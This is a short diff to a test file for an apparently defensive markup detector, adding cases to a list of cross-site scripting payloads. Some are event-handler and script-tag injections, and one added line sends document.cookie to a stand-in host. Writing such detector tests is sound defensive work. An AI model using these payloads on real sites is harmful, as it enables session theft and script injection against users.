@@ -5,6 +5,9 @@ describeDetector('detectMarkup', detectMarkup, {
   attacks: [
     ['<script>alert(1)</script>', 'tag'],
     ['<script src=//a.example>', 'tag'],
+    ['<p id=x/onclick=f()>', 'tag'],
+    ["<img src='//a.example/?'+document.cookie>", 'tag'],
+    ['x</script>[1]', 'declaration'],
     ['<img src=x onerror=alert(1)>', 'tag'],
     ['<svg/onload=alert(1)', 'tag'],
     ['<a href="jav&#x09;ascript:alert(1)">', 'tag'],
